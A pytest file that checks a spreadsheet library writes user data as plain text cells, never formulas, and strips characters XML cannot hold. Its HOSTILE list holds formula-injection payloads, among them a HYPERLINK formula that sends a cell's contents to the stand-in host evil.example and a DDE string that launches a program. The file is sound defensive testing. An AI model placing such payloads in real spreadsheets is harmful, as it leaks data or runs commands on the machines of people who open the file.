"""Cells from user data are text: no formula, no character that breaks the file."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from motcua.lib import spreadsheet
from tests.spreadsheet import formula_cells, sheet_xml

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+84 912 345 678",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def saved(book) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_plain_openpyxl_would_write_a_formula():
    # The finding, so that the test below means something.
    book = Workbook()
    book.active.append([HOSTILE[0]])
    assert formula_cells(saved(book)) == ["A1"]


def test_hostile_strings_are_text_cells_read_back_verbatim():
    book = Workbook()
    sheet = book.active
    for text in HOSTILE:
        spreadsheet.append(sheet, [text, 42])
    content = saved(book)
    assert formula_cells(content) == []
    assert "<f>" not in sheet_xml(content)
    back = load_workbook(io.BytesIO(content)).active
    for row, text in enumerate(HOSTILE, start=1):
        cell = back.cell(row, 1)
        assert cell.data_type == "s" and cell.value == text
        # Excel's quote prefix keeps it text when edited; no visible apostrophe is added.
        assert cell.quotePrefix is True
        assert back.cell(row, 2).value == 42


def test_ordinary_text_gets_no_quote_prefix():
    book = Workbook()
    cell = spreadsheet.write(book.active, 1, 1, "Nguyễn Văn An")
    assert cell.value == "Nguyễn Văn An" and not cell.quotePrefix


@pytest.mark.parametrize(
    "stored, written",
    [("Nguyễn\x01 An", "Nguyễn An"), ("\u202eAn", "An"), ("A\u200bn", "An"), ("dòng 1\ndòng 2", "dòng 1\ndòng 2")],
)
def test_characters_xml_cannot_hold_are_dropped_not_fatal(stored, written):
    book = Workbook()
    spreadsheet.write(book.active, 1, 1, stored)
    back = load_workbook(io.BytesIO(saved(book))).active
    assert back["A1"].value == written
